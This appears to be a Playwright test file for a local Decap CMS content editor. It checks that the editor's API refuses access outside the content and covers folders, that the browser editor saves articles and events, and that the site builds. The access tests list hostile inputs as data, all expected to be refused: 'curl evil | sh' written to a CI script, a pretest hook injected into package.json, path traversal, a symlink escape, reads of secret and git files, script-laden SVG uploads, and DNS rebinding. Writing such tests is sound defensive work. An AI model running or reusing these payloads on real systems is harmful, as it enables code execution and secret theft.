// The browser editor (issue 49 point 7, issue 60): a marketer's steps in Decap CMS on a temporary
// copy of the repository's content and covers folders, then the file on disk and the entry the
// content loader makes of it; the editor's API confined to those two folders and its own page; and
// one production build of the copy, with a file added by hand beside what the editor wrote.
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { stringify } from 'yaml';
import { collections } from '../../src/content/build/collections.ts';
import { parseFrontmatter } from '../../src/content/build/frontmatter.ts';
import { loadContent } from '../../src/content/build/load.ts';
import { ContentError } from '../../src/content/build/problems.ts';
import { DEFAULT_SITE_URL } from '../../src/config/siteUrl.ts';
import { freePort } from '../../server/test/harness.ts';
import { jsonSchemaOf, labelOf } from './config.ts';

const port = Number(process.env.CONTENT_EDITOR_TEST_PORT ?? 4464);
const origin = `http://127.0.0.1:${port}`;
let workDir = '';
let contentCopy = '';
let editor: ChildProcess | undefined;

/** Files of a clone outside the two folders the editor may reach, each with what it holds. */
const outside: Record<string, string> = {
  'package.json': '{"name":"decoy","scripts":{}}\n',
  '.ci/run': '#!/bin/sh\necho ci\n',
  '.git/config': '[core]\n\tbare = false\n',
  '.env.server': 'SECRET=do-not-read\n',
  'public/index.html': '<!doctype html><title>decoy</title>\n',
  'public/images/avatars/someone.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>\n',
};

test.beforeAll(async () => {
  workDir = mkdtempSync(path.join(tmpdir(), 'content-editor-'));
  contentCopy = path.join(workDir, 'content');
  cpSync(path.resolve('content'), contentCopy, { recursive: true });
  cpSync(path.resolve('public/images/covers'), path.join(workDir, 'public/images/covers'), { recursive: true });
  for (const [file, text] of Object.entries(outside)) {
    mkdirSync(path.dirname(path.join(workDir, file)), { recursive: true });
    writeFileSync(path.join(workDir, file), text);
  }
  editor = spawn(process.execPath, ['tools/content-editor/editor.ts'], {
    env: { ...process.env, CONTENT_DIR: contentCopy, CONTENT_EDITOR_PORT: String(port) },
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  await new Promise<void>((resolve, reject) => {
    editor!.stdout!.on('data', (chunk: Buffer) => {
      if (chunk.toString('utf8').includes('content editor for')) resolve();
    });
    editor!.on('exit', (code) => reject(new Error(`the content editor stopped (exit ${code})`)));
  });
});

test.afterAll(() => {
  editor?.kill();
  if (workDir) rmSync(workDir, { recursive: true, force: true });
});

/** One request to the editor with the given Host, Origin and path; the status and the body. */
function send(options: { path: string; host?: string; origin?: string; body?: unknown }): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const headers: Record<string, string> = { Host: options.host ?? `127.0.0.1:${port}`, 'Content-Type': 'application/json' };
    if (options.origin !== '') headers.Origin = options.origin ?? origin;
    const req = request({ host: '127.0.0.1', port, path: options.path, method: options.body === undefined ? 'GET' : 'POST', headers }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }));
    });
    req.on('error', reject);
    req.end(options.body === undefined ? undefined : JSON.stringify(options.body));
  });
}

const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');

test('the editor API reaches content/ and the covers folder only, from its own page with its token', async () => {
  // A link inside the content folder that leads out of it (removed at the end: the loader would refuse it).
  const link = path.join(contentCopy, 'articles', 'linked.md');
  symlinkSync(path.join(workDir, 'package.json'), link);
  const config = JSON.parse((await send({ path: '/config.json' })).body) as { backend: { proxy_url: string }; media_folder: string };
  const api = new URL(config.backend.proxy_url).pathname;
  expect(api).toMatch(/^\/api\/v1\/[\w-]{43}$/);
  expect(config.media_folder).toBe('public/images/covers');
  const entry = (file: string, raw: string) => ({ entry: { slug: 'x', path: file, raw }, assets: [] });
  const media = (file: string, content: Buffer) => ({ asset: { path: file, content: content.toString('base64'), encoding: 'base64' }, options: { commitMessage: 'Upload' } });
  const tries: { what: string; options: Parameters<typeof send>[0]; status: number }[] = [
    { what: 'read an article (allowed)', options: { path: api, body: { action: 'getEntry', params: { branch: 'main', path: 'content/articles/ai-agent-orchestration-2025.md' } } }, status: 200 },
    { what: 'upload a PNG cover (allowed)', options: { path: api, body: { action: 'persistMedia', params: { branch: 'main', ...media('public/images/covers/new-cover.png', png) } } }, status: 200 },
    { what: 'read package.json', options: { path: api, body: { action: 'getEntry', params: { branch: 'main', path: 'package.json' } } }, status: 403 },
    { what: 'read .env.server', options: { path: api, body: { action: 'entriesByFiles', params: { branch: 'main', files: [{ path: '.env.server' }] } } }, status: 403 },
    { what: 'read .git/config', options: { path: api, body: { action: 'getMediaFile', params: { branch: 'main', path: '.git/config' } } }, status: 403 },
    { what: 'list the repository root', options: { path: api, body: { action: 'entriesByFolder', params: { branch: 'main', folder: '.', extension: 'json', depth: 1 } } }, status: 403 },
    { what: 'list .git/', options: { path: api, body: { action: 'getMedia', params: { branch: 'main', mediaFolder: '.git' } } }, status: 403 },
    { what: 'read package.json through content/../', options: { path: api, body: { action: 'getEntry', params: { branch: 'main', path: 'content/../package.json' } } }, status: 403 },
    { what: 'read a link in content/ that leads to package.json', options: { path: api, body: { action: 'getEntry', params: { branch: 'main', path: 'content/articles/linked.md' } } }, status: 403 },
    { what: 'read public/index.html', options: { path: api, body: { action: 'getMediaFile', params: { branch: 'main', path: 'public/index.html' } } }, status: 403 },
    { what: 'read an avatar (public/ outside covers)', options: { path: api, body: { action: 'getMediaFile', params: { branch: 'main', path: 'public/images/avatars/someone.svg' } } }, status: 403 },
    { what: 'write package.json (a pretest script)', options: { path: api, body: { action: 'persistEntry', params: { branch: 'main', ...entry('package.json', '{"scripts":{"pretest":"touch owned"}}') } } }, status: 403 },
    { what: 'write .ci/run', options: { path: api, body: { action: 'persistEntry', params: { branch: 'main', ...entry('.ci/run', 'curl evil | sh') } } }, status: 403 },
    { what: 'write .git/config', options: { path: api, body: { action: 'persistEntry', params: { branch: 'main', ...entry('content/articles/a.md', '---\n---\n'), dataFiles: [{ slug: 'a', path: '.git/config', raw: '[core]' }] } } }, status: 403 },
    { what: 'move an article onto package.json', options: { path: api, body: { action: 'persistEntry', params: { branch: 'main', entry: { slug: 'x', path: 'content/articles/x.md', raw: '---\n---\n', newPath: 'package.json' }, assets: [] } } }, status: 403 },
    { what: 'write an HTML page under public/', options: { path: api, body: { action: 'persistMedia', params: { branch: 'main', ...media('public/owned.html', Buffer.from('<script>alert(1)</script>')) } } }, status: 403 },
    { what: 'write an HTML page in the covers folder', options: { path: api, body: { action: 'persistMedia', params: { branch: 'main', ...media('public/images/covers/owned.html', Buffer.from('<script>alert(1)</script>')) } } }, status: 403 },
    { what: 'write a cover with an entry into package.json', options: { path: api, body: { action: 'persistEntry', params: { branch: 'main', ...entry('content/articles/y.md', '---\n---\n'), assets: [{ path: 'package.json', content: png.toString('base64'), encoding: 'base64' }] } } }, status: 403 },
    { what: 'upload an SVG cover with a script', options: { path: api, body: { action: 'persistMedia', params: { branch: 'main', ...media('public/images/covers/bad.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')) } } }, status: 422 },
    { what: 'upload a PNG cover that is not a PNG', options: { path: api, body: { action: 'persistMedia', params: { branch: 'main', ...media('public/images/covers/fake.png', Buffer.from('<html></html>')) } } }, status: 422 },
    { what: 'upload a 1.5 MB cover', options: { path: api, body: { action: 'persistMedia', params: { branch: 'main', ...media('public/images/covers/big.png', Buffer.concat([png, Buffer.alloc(1_500_000)])) } } }, status: 422 },
    { what: 'delete package.json', options: { path: api, body: { action: 'deleteFile', params: { branch: 'main', path: 'package.json' } } }, status: 403 },
    { what: 'delete .ci/run among articles', options: { path: api, body: { action: 'deleteFiles', params: { branch: 'main', paths: ['content/articles/nothing.md', '.ci/run'] } } }, status: 403 },
    { what: 'an action the editor does not use (unpublishedEntries)', options: { path: api, body: { action: 'unpublishedEntries', params: { branch: 'main' } } }, status: 403 },
    { what: 'read an article without the token', options: { path: '/api/v1', body: { action: 'getEntry', params: { branch: 'main', path: 'content/articles/ai-agent-orchestration-2025.md' } } }, status: 403 },
    { what: 'read an article with a wrong token', options: { path: `${api.slice(0, -4)}AAAA`, body: { action: 'getEntry', params: { branch: 'main', path: 'content/articles/ai-agent-orchestration-2025.md' } } }, status: 403 },
    { what: 'read an article from another Origin', options: { path: api, origin: 'http://evil.example', body: { action: 'getEntry', params: { branch: 'main', path: 'content/articles/ai-agent-orchestration-2025.md' } } }, status: 403 },
    { what: 'read an article with no Origin', options: { path: api, origin: '', body: { action: 'getEntry', params: { branch: 'main', path: 'content/articles/ai-agent-orchestration-2025.md' } } }, status: 403 },
    { what: 'read an article with another Host (DNS rebinding)', options: { path: api, host: `evil.example:${port}`, origin: `http://evil.example:${port}`, body: { action: 'getEntry', params: { branch: 'main', path: 'content/articles/ai-agent-orchestration-2025.md' } } }, status: 421 },
    { what: 'the page with another Host', options: { path: '/', host: `evil.example:${port}` }, status: 421 },
    { what: 'the configuration (and its token) with another Host', options: { path: '/config.json', host: `evil.example:${port}` }, status: 421 },
  ];
  const answers: string[] = [];
  try {
    for (const t of tries) {
      const answer = await send(t.options);
      answers.push(`${answer.status === t.status ? 'ok  ' : 'FAIL'} ${t.what}: ${answer.status} ${answer.body.slice(0, 110)}`);
    }
  } finally {
    unlinkSync(link);
  }
  console.log(`The editor's API, each request and its answer:\n${answers.join('\n')}`);
  expect(answers.filter((a) => a.startsWith('FAIL'))).toEqual([]);
  expect(JSON.parse((await send(tries[0]!.options)).body)).toMatchObject({ file: { path: 'content/articles/ai-agent-orchestration-2025.md' } });
  for (const [file, text] of Object.entries(outside)) expect(readFileSync(path.join(workDir, file), 'utf8'), file).toBe(text);
  for (const file of ['owned', 'public/owned.html', 'public/images/covers/owned.html', 'public/images/covers/bad.svg', 'public/images/covers/fake.png', 'public/images/covers/big.png']) {
    expect(existsSync(path.join(workDir, file)), file).toBe(false);
  }
  expect(readFileSync(path.join(workDir, 'public/images/covers/new-cover.png'))).toEqual(png);
});

test('an article created in the browser editor is written as a Markdown file the build accepts', async ({ page }) => {
  await page.goto(`http://127.0.0.1:${port}/#/collections/articles`);
  await page.getByRole('button', { name: 'Login' }).click();
  // The button's words, with no glyph a font may lack.
  const create = page.getByRole('link', { name: 'Create entry of type Article' });
  await expect(create).toHaveText('New Article');
  await create.click();

  await page.getByLabel('Title', { exact: true }).fill('Agents in the Back Office: A First Month');
  await page.getByLabel('Excerpt', { exact: true }).fill('What a finance team learned in its first month with agents.');
  await page.getByLabel('Teaser', { exact: true }).fill('Four weeks, three agents, one month-end close.');
  await page.getByLabel('Name', { exact: true }).fill('Dr. Maya Chen');
  await page.getByLabel('Role', { exact: true }).fill('Co-founder & CEO');
  await page.getByLabel('Date', { exact: true }).fill('2026-11-20');
  await page.getByLabel('Category', { exact: true }).click();
  await page.getByRole('option', { name: 'Engineering' }).click();
  await page.getByRole('button', { name: 'Add Tags' }).click();
  await page.getByLabel('Item', { exact: true }).fill('Operations');
  await page.getByLabel('Cover alt', { exact: true }).fill('A ledger with three agent icons');
  await page.locator('[data-slate-editor]').click();
  await page.keyboard.type('The close took **four days** instead of nine.');

  // The preview pane is the site's own article page, with the text as typed.
  const pane = page.frameLocator('iframe').first();
  await expect(pane.getByText(/^The site's own pages, as typed \(not saved yet\)\. Publish writes the file into .+content\/ on this computer; the live site changes with the next build and deploy \(commit and push the file\)\.$/)).toBeVisible();
  const articlePage = pane.frameLocator('iframe[title="Preview of /article/agents-in-the-back-office-a-first-month"]');
  await expect(articlePage.getByRole('heading', { level: 1 })).toHaveText('Agents in the Back Office: A First Month');
  await expect(articlePage.getByText('The close took four days instead of nine.')).toBeVisible();
  if (process.env.SCREENSHOT_DIR) await page.screenshot({ path: path.join(process.env.SCREENSHOT_DIR, 'content-editor-article-preview.png') });

  await page.getByRole('button', { name: 'Publish' }).click();
  await page.getByText('Publish now').click();
  await expect(page.getByRole('button', { name: 'Published' })).toBeVisible();

  const file = path.join(contentCopy, 'articles', 'agents-in-the-back-office-a-first-month.md');
  expect(readFileSync(file, 'utf8')).toBe(
    [
      '---',
      'title: "Agents in the Back Office: A First Month"',
      'excerpt: What a finance team learned in its first month with agents.',
      'teaser: Four weeks, three agents, one month-end close.',
      'author:',
      '  name: Dr. Maya Chen',
      '  role: Co-founder & CEO',
      'date: 2026-11-20',
      'category: Engineering',
      'tags:',
      '  - Operations',
      'coverAlt: A ledger with three agent icons',
      '---',
      'The close took **four days** instead of nine.',
      '',
    ].join('\n'),
  );
  const article = loadContent({ dir: contentCopy, drafts: true }).articles.find((a) => a.id === 'agents-in-the-back-office-a-first-month');
  expect(article).toMatchObject({ title: 'Agents in the Back Office: A First Month', date: '2026-11-20', category: 'Engineering', tags: ['Operations'], readTime: 1 });
  expect(article?.html).toBe('<p>The close took <strong>four days</strong> instead of nine.</p>');
});

test('an event the schema refuses is not saved: each rule shows its message beside its field, and the fixed event builds', async ({ page }) => {
  await page.goto(`http://127.0.0.1:${port}/#/collections/events/new`);
  await page.getByRole('button', { name: 'Login' }).click();
  const field = (label: string) => page.getByLabel(label, { exact: true });
  // The schema's description is each field's hint.
  await expect(page.getByText('When it happens, written like January 21, 2027 (the month in words, the day, a comma, the year).')).toBeVisible();

  await field('Title').fill('Agents for Finance Teams');
  await field('Description').fill('A live session on month-end close with agents.');
  await field('Date').fill('2027-01-21');
  await field('Time').fill('11:00 AM PST');
  await field('Duration').fill('1 hour');
  await field('Type').click();
  await page.getByRole('option', { name: 'WORKSHOP' }).click();
  await field('Format').fill('Online workshop');
  await field('Capacity').fill('50');
  await field('Registered').fill('60');
  await field('Cover alt').fill('A ledger and three agents');
  for (const [list, line] of [
    ['Agenda', 'The close in four days'],
    ['Prerequisites', 'None'],
    ['Benefits', 'Slides'],
  ] as const) {
    // The new item is the next one only once it is drawn: under load, `.last()` could still be the list before's.
    const items = await field('Item').count();
    await page.getByRole('button', { name: `Add ${list}` }).click();
    await expect(field('Item')).toHaveCount(items + 1);
    await field('Item').nth(items).fill(line);
  }
  await field('Color').click();
  await page.getByRole('option', { name: 'accent' }).click();
  await page.locator('[data-slate-editor]').click();
  await page.keyboard.type('What the session covers.');

  const publish = async () => {
    await page.getByRole('button', { name: 'Publish' }).click();
    await page.getByText('Publish now').click();
  };
  await publish();
  const file = path.join(contentCopy, 'events', 'agents-for-finance-teams.md');
  const refused = {
    Date: 'must be a date written like January 21, 2027 (it says "2027-01-21")',
    Speakers: 'needs at least one speaker',
    Registered: 'may not be more than capacity: lower registered or raise capacity (it says "60")',
  };
  for (const message of Object.values(refused)) await expect(page.getByText(message, { exact: true })).toBeVisible();
  expect(existsSync(file)).toBe(false);
  if (process.env.SCREENSHOT_DIR) {
    await page.getByText(refused.Registered, { exact: true }).scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(process.env.SCREENSHOT_DIR, 'content-editor-refused-event.png') });
  }

  await field('Date').clear();
  await field('Date').fill('January 21, 2027');
  await field('Registered').clear();
  await field('Registered').fill('12');
  await page.getByRole('button', { name: 'Add Speakers' }).click();
  await field('Name').fill('Dr. Maya Chen');
  await field('Role').fill('Co-founder & CEO');
  // The preview: the event's page and its card on the Resources page, as the site draws them.
  const pane = page.frameLocator('iframe').first();
  const eventPage = pane.frameLocator('iframe[title="Preview of /event/agents-for-finance-teams"]');
  await expect(eventPage.getByRole('heading', { level: 1 })).toHaveText('Agents for Finance Teams');
  await expect(eventPage.getByText('Dr. Maya Chen').first()).toBeVisible();
  const resources = pane.frameLocator('iframe[title="Preview of /resources"]');
  await expect(resources.getByRole('heading', { name: 'Agents for Finance Teams' })).toBeVisible();
  if (process.env.SCREENSHOT_DIR) {
    await page.screenshot({ path: path.join(process.env.SCREENSHOT_DIR, 'content-editor-event-preview.png') });
    await resources.getByRole('heading', { name: 'Agents for Finance Teams' }).scrollIntoViewIfNeeded();
    await pane.locator('iframe[title="Preview of /resources"]').scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(process.env.SCREENSHOT_DIR, 'content-editor-event-card-preview.png') });
  }
  await publish();
  await expect(page.getByRole('button', { name: 'Published' })).toBeVisible();
  for (const message of Object.values(refused)) await expect(page.getByText(message, { exact: true })).toHaveCount(0);
  const event = loadContent({ dir: contentCopy, drafts: true }).events.find((e) => e.id === 'agents-for-finance-teams');
  expect(event).toMatchObject({ date: 'January 21, 2027', registered: 12, capacity: 50, speakers: [{ name: 'Dr. Maya Chen', role: 'Co-founder & CEO' }] });
});

/** One way to break a rule of a collection's schema: the change to a valid entry's fields. */
interface RuleCase {
  collection: string;
  rule: string;
  change: (fields: Record<string, unknown>) => void;
}

/** A case for every rule of every collection, read from each schema's JSON Schema (what the form is made of) plus the refinements it cannot state. */
function ruleCases(): RuleCase[] {
  const cases: RuleCase[] = [];
  for (const [collection, { schema }] of Object.entries(collections)) {
    const json = jsonSchemaOf(schema) as { properties: Record<string, JsonProperty>; required?: string[] };
    for (const [name, property] of Object.entries(json.properties)) {
      const set = (value: unknown) => (fields: Record<string, unknown>) => void (fields[name] = value);
      if (json.required?.includes(name)) cases.push({ collection, rule: `${name}: required`, change: (fields) => void delete fields[name] });
      if (property.enum) cases.push({ collection, rule: `${name}: one of ${property.enum.length} values`, change: set('Something else') });
      else if (property.widget === 'image') cases.push({ collection, rule: `${name}: a picture in the covers folder`, change: set('/images/elsewhere/photo.gif') });
      else if (property.type === 'string' && property.pattern) {
        cases.push({ collection, rule: `${name}: YYYY-MM-DD`, change: set('November 2, 2026') }, { collection, rule: `${name}: a real calendar date`, change: set('2026-02-30') });
      } else if (property.type === 'string' && collection === 'events' && name === 'date') {
        cases.push({ collection, rule: `${name}: written like January 21, 2027`, change: set('2027-01-21') });
      } else if (property.type === 'string') cases.push({ collection, rule: `${name}: not empty`, change: set('   ') });
      else if (property.type === 'integer') {
        cases.push({ collection, rule: `${name}: a whole number`, change: set(2.5) }, { collection, rule: `${name}: ${property.minimum ? `at least ${property.minimum}` : 'not negative'}`, change: set(property.minimum ? 0 : -1) });
      } else if (property.type === 'boolean') cases.push({ collection, rule: `${name}: true or false`, change: set('yes') });
      else if (property.type === 'array') {
        cases.push({ collection, rule: `${name}: at least one item`, change: set([]) });
        const item = property.items;
        if (item?.type === 'string') cases.push({ collection, rule: `${name}: no empty item`, change: set(['   ']) });
        for (const [sub, subProperty] of Object.entries(item?.properties ?? {})) {
          const itemWith = (value: unknown) => (fields: Record<string, unknown>) => void ((fields[name] as Record<string, unknown>[])[0]![sub] = value);
          cases.push({ collection, rule: `${name} > ${sub}: required`, change: (fields) => void delete (fields[name] as Record<string, unknown>[])[0]![sub] });
          cases.push(subProperty.type === 'number' ? { collection, rule: `${name} > ${sub}: a number`, change: itemWith('ten') } : { collection, rule: `${name} > ${sub}: not empty`, change: itemWith('   ') });
        }
      } else if (property.type === 'object') {
        for (const sub of Object.keys(property.properties ?? {})) {
          cases.push({ collection, rule: `${name} > ${sub}: required`, change: (fields) => void delete (fields[name] as Record<string, unknown>)[sub] });
          cases.push({ collection, rule: `${name} > ${sub}: not empty`, change: (fields) => void ((fields[name] as Record<string, unknown>)[sub] = '   ') });
        }
      }
    }
  }
  cases.push({ collection: 'events', rule: 'registered: not more than capacity', change: (fields) => void (fields.registered = Number(fields.capacity) + 1) });
  cases.push({ collection: 'articles', rule: 'no field the schema does not have', change: (fields) => void (fields.catgory = 'AI Strategy') });
  return cases;
}

interface JsonProperty {
  type?: string;
  enum?: string[];
  pattern?: string;
  minimum?: number;
  widget?: string;
  items?: JsonProperty;
  properties?: Record<string, JsonProperty>;
}

test('every rule of every collection is refused in the editor with the message the build gives', async ({ page }) => {
  await page.goto(`http://127.0.0.1:${port}/`);
  await page.waitForFunction(() => 'contentEditor' in window);
  const rows: string[] = ['| Collection | Rule broken | Refused in the editor with | Refused by the build with |', '| --- | --- | --- | --- |'];
  const mismatches: string[] = [];
  const buildDir = path.join(workDir, 'rules');
  for (const c of ruleCases()) {
    const [sample] = readdirSync(path.join(contentCopy, c.collection)).filter((f) => f.endsWith('.md') && f !== 'linked.md').sort();
    const parsed = parseFrontmatter(readFileSync(path.join(contentCopy, c.collection, sample!), 'utf8'));
    const fields = structuredClone(parsed.data) as Record<string, unknown>;
    c.change(fields);
    const inEditor = await page.evaluate(({ collection, data }) => (window as unknown as { contentEditor: { schemaProblems: (c: string, d: unknown) => { field: string; message: string }[] } }).contentEditor.schemaProblems(collection, data), { collection: c.collection, data: fields });
    rmSync(buildDir, { recursive: true, force: true });
    mkdirSync(path.join(buildDir, c.collection), { recursive: true });
    writeFileSync(path.join(buildDir, c.collection, sample!), `---\n${stringify(fields)}---\n${parsed.body}`);
    let inBuild: string[] = [];
    try {
      loadContent({ dir: buildDir, drafts: true });
    } catch (error) {
      inBuild = error instanceof ContentError ? error.problems.map((p) => `${p.field ? `${p.field}: ` : ''}${p.message}`) : [String(error)];
    }
    // A required field left empty: the form's own check, made from the schema's list of required fields.
    const required = /: required$/.test(c.rule);
    const label = c.rule.split(/[:>]/)[required && c.rule.includes(' > ') ? 1 : 0]!.trim();
    const editor = required && inEditor.length === 0 ? `${labelOf(label)} is required. (the form's check of the schema's required fields)` : inEditor.map((p) => `${p.field}: ${p.message}`).join('; ');
    const build = inBuild.join('; ');
    if (!build || !editor || (!required && editor !== build.replace(/^(\w+) > /, '$1: ').replace(/ > /g, ' > '))) mismatches.push(`${c.collection} ${c.rule}: editor "${editor}" / build "${build}"`);
    rows.push(`| ${c.collection} | ${c.rule} | ${editor.replaceAll('|', '\\|')} | ${build.replaceAll('|', '\\|')} |`);
  }
  console.log(`Every rule, in the editor and in the build (${rows.length - 2} rules):\n${rows.join('\n')}`);
  expect(mismatches).toEqual([]);
});

/** What a marketer writes by hand, without the editor (docs/content.md): one new Markdown file. */
const HAND_WRITTEN = {
  id: 'five-questions-before-your-first-agent',
  title: 'Five Questions to Ask Before Your First AI Agent',
  file: `---
title: "Five Questions to Ask Before Your First AI Agent"
excerpt: The checklist we walk through with every client before the first line of code.
teaser: Five questions, asked early, save weeks of rework later.
author:
  name: Dr. Maya Chen
  role: Co-founder & CEO
date: 2026-11-02
category: AI Strategy
tags:
  - Strategy
coverAlt: A checklist beside a robot arm
---

Most projects that stall were never set up to succeed.

## Which process, exactly?

Pick one with volume and clear rules, then [check the prices](/pricing) or read [a guide](https://example.com/guide).
`,
};

// One production build of the copy serves both ways of publishing (issue 49, issue 60): the entries
// written in the editor above and a file added by hand. The build is nearly all of this test's time.
test('what the editor wrote and a file added by hand build into the site: pages, covers, lists, sitemap and feed', async ({ page }) => {
  test.setTimeout(300_000);
  const ids = { article: 'agents-in-the-back-office-a-first-month', event: 'agents-for-finance-teams' };
  for (const [kind, id] of Object.entries(ids)) expect(existsSync(path.join(contentCopy, `${kind}s`, `${id}.md`)), `${kind} written by the tests above`).toBe(true);
  writeFileSync(path.join(contentCopy, 'articles', `${HAND_WRITTEN.id}.md`), HAND_WRITTEN.file);
  const outDir = path.join(workDir, 'editor-dist');
  const build = spawnSync(process.execPath, ['tools/build/build-site.ts'], { env: { ...process.env, CONTENT_DIR: contentCopy, BUILD_OUT_DIR: outDir }, encoding: 'utf8' });
  expect(build.status, `${build.stdout}\n${build.stderr}`.slice(-3000)).toBe(0);
  expect(build.stdout).toContain(`covers/${ids.article}.svg`);
  for (const file of [`article/${ids.article}/index.html`, `event/${ids.event}/index.html`, `images/covers/${ids.article}.svg`, `images/covers/${ids.event}.svg`]) expect(existsSync(path.join(outDir, file)), file).toBe(true);
  expect(readFileSync(path.join(outDir, 'resources/index.html'), 'utf8')).toContain('Agents for Finance Teams');

  const sitePort = await freePort(); // the editor holds `port` and its preview `port + 1`
  const site = `http://127.0.0.1:${sitePort}`;
  const server = spawn(process.execPath, ['tools/build/serve-static.ts', outDir, '--port', String(sitePort)], { stdio: 'ignore' });
  try {
    await expect.poll(async () => (await fetch(`${site}/`).catch(() => null))?.status, { timeout: 15_000 }).toBe(200);
    await page.goto(`${site}/article/${HAND_WRITTEN.id}`);
    await expect(page.getByRole('heading', { level: 1, name: HAND_WRITTEN.title })).toBeVisible();
    await expect(page.getByRole('heading', { level: 2, name: 'Which process, exactly?' })).toHaveAttribute('id', 'which-process-exactly');
    await expect(page.getByText('1 min read')).toBeVisible();
    await expect(page.getByRole('link', { name: 'a guide' })).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(page.getByRole('link', { name: 'a guide' })).toHaveAttribute('target', '_blank');
    await expect(page.getByRole('link', { name: 'check the prices' })).not.toHaveAttribute('target');

    await page.goto(`${site}/resources`);
    await expect(page.getByRole('link', { name: HAND_WRITTEN.title, exact: true })).toHaveAttribute('href', `/article/${HAND_WRITTEN.id}`);

    const sitemap = await (await fetch(`${site}/sitemap.xml`)).text();
    expect(sitemap).toContain(`<url><loc>${DEFAULT_SITE_URL}/article/${HAND_WRITTEN.id}</loc><lastmod>2026-11-02</lastmod></url>`);
    const feed = await fetch(`${site}/feed.xml`);
    expect(feed.headers.get('content-type')).toBe('application/atom+xml; charset=utf-8');
    const xml = await feed.text();
    expect(xml).toContain(`<id>${DEFAULT_SITE_URL}/article/${HAND_WRITTEN.id}</id>`);
    expect(xml).toContain(`<title>${HAND_WRITTEN.title}</title>`);
  } finally {
    server.kill();
  }
});
